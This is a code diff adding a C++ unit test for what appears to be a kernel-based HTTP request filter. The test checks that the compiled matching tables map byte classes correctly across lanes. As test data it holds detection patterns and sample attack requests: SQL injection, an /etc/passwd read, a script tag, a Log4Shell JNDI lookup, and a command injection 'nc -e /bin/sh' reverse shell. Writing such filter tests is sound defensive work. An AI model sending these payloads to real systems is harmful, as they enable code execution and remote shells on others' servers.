@@ -276,6 +276,54 @@ TEST_CASE("sets see only the parts of a request they are limited to", "[automato
     CHECK(scan1(re("\\sUser-Agent:\\s*evil", in({"uri"})), inj) != 0);
 }
 
+TEST_CASE("table 0's lanes map holds every table's classes of a byte", "[automaton][lanes]") {
+    // Three sets whose bytes fall in different classes, each in a table of its own: a budget
+    // just over the biggest alone, so that no two fit together (compile's estimate).
+    std::vector<std::vector<Pattern>> sets{{re("union\\s+select"), lit("/etc/passwd")},
+                                           {re("<script[^>]*>"), re("\\bon\\w+\\s*=")},
+                                           {re("\\$\\{jndi:"), re("[|;]\\s*nc\\s+-e")}};
+    std::vector<Pattern> all;
+    size_t biggest = 0;
+    for (size_t i = 0; i < sets.size(); ++i)
+        for (auto p : sets[i]) {
+            p.set = "s" + std::to_string(i);
+            all.push_back(p);
+        }
+    for (size_t i = 0; i < sets.size(); ++i) {
+        std::vector<Pattern> own(all.begin() + static_cast<long>(2 * i),
+                                 all.begin() + static_cast<long>(2 * i + 2));
+        biggest = std::max(biggest, automaton::compile_table(own).table.size());
+    }
+    auto a = automaton::compile(all, biggest + biggest / 5);
+    REQUIRE(a.tables.size() == 3);
+    const auto* lanes =
+        reinterpret_cast<const uint8_t*>(a.tables[0].table.data()) + BW_DFA_LANES_MAP;
+    size_t differ = 0;
+    for (int b = 0; b < 256; ++b) {
+        for (size_t k = 0; k < BW_DFA_TABLES; ++k) {
+            // Lanes past the tables run table 0.
+            auto& t = a.tables[k < a.tables.size() ? k : 0];
+            INFO("byte " << b << " lane " << k);
+            CHECK(lanes[b * BW_DFA_TABLES + k] * 4u == t.byte_class[static_cast<size_t>(b)]);
+        }
+        differ += a.tables[1].byte_class[static_cast<size_t>(b)] !=
+                  a.tables[2].byte_class[static_cast<size_t>(b)];
+    }
+    CHECK(differ > 0);  // else the map could hold one table's classes and still pass
+    for (auto& t : a.tables) CHECK(t.table.size() * 4 <= BW_DFA_STATE_END);
+    // The userspace scan reads the classes as the kernel's lanes do: each table's attack is
+    // found, by its own pattern.
+    auto name = [&](const std::string& payload) {
+        uint32_t m = automaton::scan(a, payload, BW_MAX_SCAN_BYTES);
+        return m ? a.patterns[m - 1].text : std::string("(none)");
+    };
+    CHECK(name("GET /?q=1%20UNION%20SELECT%202 HTTP/1.1\r\nHost: h\r\n\r\n") == "union\\s+select");
+    CHECK(name("GET /?q=%3Cscript%20src=x%3E HTTP/1.1\r\nHost: h\r\n\r\n") == "<script[^>]*>");
+    CHECK(name("GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://x/a}\r\n\r\n") == "\\$\\{jndi:");
+    CHECK(name("POST /p HTTP/1.1\r\nHost: h\r\n\r\nhost=x; nc -e /bin/sh") == "[|;]\\s*nc\\s+-e");
+    CHECK(name("GET /?q=unions%20selected HTTP/1.1\r\nHost: h\r\n\r\n") == "(none)");
+}
+
 TEST_CASE("the kernel's four streams find what one pass finds", "[automaton][streams]") {
     // Matches across every split point, long runs inside a match (a stream goes on past its
     // end until nothing is in progress), \b at a split inside the body.
